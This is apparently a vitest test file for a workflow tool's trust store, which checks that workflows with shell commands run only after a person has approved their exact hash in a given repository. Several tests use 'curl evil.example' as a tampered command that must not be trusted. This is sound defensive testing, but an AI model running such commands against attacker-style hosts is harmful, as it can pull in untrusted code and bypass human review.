import { mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import {
  hashDefinition,
  loadWorkflowTemplate,
  loadWorkflowTemplateFromString,
  workflowSearchPath,
} from '../definition/index.ts';
import { commandsOf } from '../definition/list-gates.ts';
import { withConfig } from './config.ts';
import { createTrust } from './trust.ts';

let directory: string;
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'stepfast-trust-'));
});
afterEach(() => rmSync(directory, { recursive: true, force: true }));

const workflow = (command: string) =>
  loadWorkflowTemplateFromString(`
name: feature
description: d
steps:
  - { id: a, type: action, instructions: x, gate: [{ run: ${command} }, { exists: PLAN.md }] }
  - { id: b, type: ralph, n: 2, instructions: x, until: [{ run: npm run lint }] }
`);

test('a workflow with commands is trusted only after a person trusted it, and only unchanged', () => {
  const trust = createTrust(directory, '/repo');
  const known = workflow('npm test');
  const changed = workflow('curl evil.example');
  expect(trust.has(known)).toBe(false);
  trust.give(known, { now: 1, by: 'person' });
  expect(trust.has(known)).toBe(true);
  expect(trust.has(changed)).toBe(false);
  expect(trust.list()).toMatchObject([{ workflow: 'feature', by: 'person' }]);
  for (const record of trust.list()) trust.take(record);
  expect(trust.has(known)).toBe(false);
});

test('a record that was half written trusts nothing and hides no other', () => {
  const trust = createTrust(directory, '/repo');
  trust.give(workflow('npm test'), { now: 1, by: 'person' });
  trust.give(workflow('npm run check'), { now: 2, by: 'person' });
  const [first = '', second = '', ...more] = readdirSync(join(directory, 'trust'));
  expect(more).toEqual([]);
  const spoil = (name: string, text: string) => writeFileSync(join(directory, 'trust', name), text);
  spoil('sha256-0.json', 'null');
  expect(trust.list()).toHaveLength(2);
  spoil(first, '{"hash":"sha');
  expect(trust.list()).toHaveLength(1);
  expect(trust.changes(workflow('make'))).toBeDefined();
  spoil(second, '');
  expect(trust.list()).toEqual([]);
  expect(trust.has(workflow('npm test'))).toBe(false);
});

test('a hash that a process was given counts for that process', () => {
  const known = workflow('npm test');
  const hash = hashDefinition(known);
  expect(createTrust(directory, '/repo', [hash]).has(known)).toBe(true);
  expect(createTrust(directory, '/repo').has(known)).toBe(false);
});

test('a workflow without commands needs no trust', () => {
  const none = loadWorkflowTemplateFromString(`
name: quiet
description: d
steps: [{ id: a, type: action, instructions: x, gate: [{ exists: PLAN.md }] }]
`);
  expect(createTrust(directory, '/repo').has(none)).toBe(true);
});

test('bundled workflows are trusted as they are, also with what the project sets for all', () => {
  const bundled = workflowSearchPath().find(({ kind }) => kind === 'bundled')?.directory ?? '';
  const release = loadWorkflowTemplate(join(bundled, 'release.yaml'));
  expect(commandsOf(release)).not.toEqual([]);
  expect(createTrust(directory, '/repo').has(release)).toBe(true);
  const config = { keep: false, stop: 'hold' } as const;
  const set = withConfig(release, config);
  expect(createTrust(directory, '/repo').has(set)).toBe(true);
  const tampered = { ...release, steps: [...workflow('curl evil.example').steps] };
  expect(createTrust(directory, '/repo').has(tampered)).toBe(false);
});

test('a definition that is said to have a trusted hash is looked at all the same', () => {
  const trust = createTrust(directory, '/repo');
  const known = workflow('npm test');
  trust.give(known, { now: 1, by: 'person' });
  expect(trust.has({ ...known, steps: workflow('curl evil.example').steps })).toBe(false);
});

test('commands are listed once each, `until` among them', () => {
  expect(commandsOf(workflow('npm test'))).toEqual(['npm test', 'npm run lint']);
});

test.skipIf(process.platform === 'win32')('only its user can look into the trust directory', () => {
  const known = workflow('npm test');
  createTrust(directory, '/repo').give(known, { now: 1, by: 'person' });
  expect(statSync(join(directory, 'trust')).mode & 0o077).toBe(0);
});

const acting = (
  changed: { run?: string; prose?: string; tools?: string; target?: string; name?: string } = {},
) => {
  const { run = 'npm test', prose = 'x', tools = 'Read', target = 'staging', name = 'acting' } = changed;
  return loadWorkflowTemplateFromString(`
name: ${name}
description: ${prose}
inputs: { target: { default: ${target} } }
agents: { critic: { description: ${prose}, tools: [${tools}], permissions: plan } }
steps:
  - { id: a, type: action, agent: critic, instructions: ${prose}, gate: [{ run: ${run} }] }
`);
};

describe('A9: trust covers what can act', () => {
  const given = () => {
    const trust = createTrust(directory, '/repo');
    trust.give(acting(), { now: 1, by: 'person' });
    return trust;
  };

  test('prose does not change it; commands, defaults of inputs, tools and permissions do', () => {
    const trust = given();
    expect(trust.has(acting({ prose: 'y' }))).toBe(true);
    for (const changed of [{ run: 'npm t' }, { tools: 'Read, Write' }, { target: 'live' }, { name: 'b' }])
      expect(trust.has(acting(changed)), JSON.stringify(changed)).toBe(false);
    const { agents: _, ...bare } = acting();
    expect(trust.has(bare)).toBe(false);
  });

  test('agents alone need no trust, so that a run without commands that has begun goes on', () => {
    const { gate: _, ...step } = acting().steps[0] ?? never();
    expect(createTrust(directory, '/repo').has({ ...acting(), steps: [step] })).toBe(true);
  });

  test('the same commands in another repository are not trusted', () => {
    given();
    expect(createTrust(directory, '/other').has(acting())).toBe(false);
  });

  test('an older record, by hash, stays valid in every repository until it is taken', () => {
    const known = acting();
    const hash = hashDefinition(known);
    mkdirSync(join(directory, 'trust'), { recursive: true });
    const record = { hash, workflow: 'acting', now: 1, by: 'person' } as const;
    writeFileSync(join(directory, 'trust', `${hash.replace(':', '-')}.json`), JSON.stringify(record));
    const trust = createTrust(directory, '/other');
    expect([trust.has(known), trust.has(acting({ prose: 'y' }))]).toEqual([true, false]);
    expect(trust.changes(acting({ run: 'npm t' }))).toBeUndefined();
    trust.take(record);
    expect(trust.has(known)).toBe(false);
  });

  test('what changed since the last trust in this repository is known', () => {
    const trust = given();
    trust.give(acting({ run: 'npm t' }), { now: 2, by: 'person' });
    expect(trust.changes(acting({ run: 'make', tools: 'Write' }))).toEqual({
      added: [{ run: 'make' }, { agent: 'critic', tools: ['Write'] }],
      removed: [{ run: 'npm t' }, { agent: 'critic', tools: ['Read'] }],
    });
    expect(createTrust(directory, '/other').changes(acting())).toBeUndefined();
  });
});

function never(): never {
  throw new Error('no step');
}
